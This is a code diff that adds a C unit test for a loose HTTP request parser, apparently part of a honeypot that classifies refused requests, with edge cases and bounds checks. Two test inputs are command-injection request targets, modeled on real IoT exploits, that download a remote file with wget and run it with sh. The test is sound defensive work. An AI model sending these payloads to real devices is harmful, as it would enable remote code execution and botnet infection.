@@ -408,6 +408,65 @@ static void test_absurd_inputs(void **state)
     free(s);
 }
 
+static bool bytes_is(struct hp_bytes b, const char *s)
+{
+    return b.n == strlen(s) && memcmp(b.p, s, b.n) == 0;
+}
+
+/* A refused request split loosely for its classification (hp_http_parse_loose). */
+static void test_loose(void **state)
+{
+    struct hp_http_req r;
+    /* blanks in the target, as exploits for boa and GoAhead send them */
+    const char *a = "\r\nGET /login.cgi?cli=aa aa';wget http://192.0.2.9/x -O -> /tmp/r;sh /tmp/r'$  HTTP/1.1\r\n"
+                    "Host: x\r\nno colon here\r\n  User-Agent :  Hello, world \r\n\r\nbody bytes";
+    assert_true(hp_http_parse_loose((const uint8_t *)a, strlen(a), &r));
+    assert_true(bytes_is(r.method, "GET"));
+    assert_true(bytes_is(r.target, "/login.cgi?cli=aa aa';wget http://192.0.2.9/x -O -> /tmp/r;sh /tmp/r'$"));
+    assert_true(bytes_is(r.version, "HTTP/1.1"));
+    assert_int_equal(r.major, 1);
+    assert_int_equal(r.minor, 1);
+    assert_int_equal(r.nheaders, 2);                     /* the line without ':' skipped */
+    assert_true(bytes_is(r.headers[0].name, "Host") && bytes_is(r.headers[0].value, "x"));
+    assert_true(bytes_is(r.headers[1].name, "User-Agent") && bytes_is(r.headers[1].value, "Hello, world"));
+    assert_true(bytes_is(r.body, "body bytes"));
+    assert_int_equal(r.head_len + r.body.n, strlen(a));
+    /* no version: the whole rest of the line is the target; LF alone ends lines */
+    const char *b = "GET /shell?cd /tmp;wget http://192.0.2.10/jaws;sh jaws\nX: 1\n";
+    assert_true(hp_http_parse_loose((const uint8_t *)b, strlen(b), &r));
+    assert_true(bytes_is(r.target, "/shell?cd /tmp;wget http://192.0.2.10/jaws;sh jaws"));
+    assert_int_equal(r.version.n, 0);
+    assert_int_equal(r.nheaders, 1);
+    assert_int_equal(r.body.n, 0);
+    /* "HTTP/x.y" alone is the target, not a version of nothing */
+    assert_true(hp_http_parse_loose((const uint8_t *)"GET HTTP/1.1", 12, &r));
+    assert_true(bytes_is(r.target, "HTTP/1.1") && r.version.n == 0);
+    /* nothing to split: no blank after the method, no target, an over-long method, empty */
+    assert_false(hp_http_parse_loose((const uint8_t *)"GARBAGE\r\n\r\n", 11, &r));
+    assert_false(hp_http_parse_loose((const uint8_t *)"GET    \r\n", 9, &r));
+    assert_false(hp_http_parse_loose((const uint8_t *)" /x HTTP/1.1\r\n", 14, &r));
+    char longm[64];
+    memset(longm, 'A', 40);
+    memcpy(longm + 40, " /x HTTP/1.1\r\n", 14);
+    assert_false(hp_http_parse_loose((const uint8_t *)longm, 54, &r));
+    assert_false(hp_http_parse_loose((const uint8_t *)"\x16\x03\x01 /x HTTP/1.1\r\n", 17, &r));
+    assert_false(hp_http_parse_loose((const uint8_t *)"GE\0T /x HTTP/1.1\r\n", 18, &r));
+    assert_false(hp_http_parse_loose((const uint8_t *)"\r\n\r\n", 4, &r));
+    assert_false(hp_http_parse_loose((const uint8_t *)"", 0, &r));
+    /* every prefix of a request, from an allocation of exactly its size: nothing read past it */
+    size_t n = strlen(a);
+    for (size_t k = 0; k <= n; k++) {
+        uint8_t *cut = malloc(k ? k : 1);
+        memcpy(cut, a, k);
+        if (hp_http_parse_loose(cut, k, &r)) {
+            assert_true(r.target.p >= cut && r.target.p + r.target.n <= cut + k);
+            assert_true(r.body.n == 0 || (r.body.p >= cut && r.body.p + r.body.n <= cut + k));
+            assert_int_equal(r.head_len + r.body.n, k);
+        }
+        free(cut);
+    }
+}
+
 /* A head trickled byte by byte is validated as it comes (resumed, not re-parsed). */
 static void test_trickled_head(void **state)
 {
@@ -809,6 +868,7 @@ int main(void)
         cmocka_unit_test(test_response),
         cmocka_unit_test(test_response_date_current),
         cmocka_unit_test(test_sniff),
+        cmocka_unit_test(test_loose),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
